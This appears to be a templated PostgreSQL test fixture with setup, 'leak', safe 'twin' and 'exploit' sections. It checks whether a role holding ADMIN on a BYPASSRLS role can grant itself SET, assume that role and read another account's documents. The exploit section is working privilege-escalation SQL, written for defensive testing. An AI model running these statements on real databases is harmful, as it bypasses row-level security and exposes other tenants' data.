-- Who may grant a role may grant it to itself.
-- object: role:{app}
-- base: text
-- server: 16+
--- setup
RESET ROLE;
CREATE ROLE {batch} BYPASSRLS NOLOGIN;
GRANT SELECT ON documents TO {batch};
--- leak
RESET ROLE;
GRANT {batch} TO {app} WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;
--- twin
RESET ROLE;
GRANT {batch} TO {app} WITH ADMIN FALSE, INHERIT FALSE, SET FALSE;
--- exploit
GRANT {batch} TO {app} WITH SET TRUE;
SET LOCAL ROLE {batch};
SELECT id FROM documents WHERE account_id = '{B}';
